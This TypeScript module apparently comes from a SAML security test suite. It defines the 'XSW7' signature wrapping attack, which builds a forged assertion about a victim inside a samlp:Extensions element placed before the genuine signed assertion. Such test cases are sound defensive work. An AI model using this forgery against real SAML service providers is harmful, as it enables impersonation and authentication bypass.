import type { SamlAttack } from '../saml-attack.ts'
import { editAnswer } from '../saml-attack.ts'

export const attack: SamlAttack = {
  name: 'XSW7: a forged assertion among the extensions',
  reason: 'wrapping',
  forge: ({ genuine, victim }) =>
    editAnswer(genuine, ({ document, response, assertion, copyAbout }) => {
      const extensions = document.createElementNS('urn:oasis:names:tc:SAML:2.0:protocol', 'samlp:Extensions')
      extensions.appendChild(copyAbout(assertion, victim))
      response.insertBefore(extensions, assertion)
    }),
}
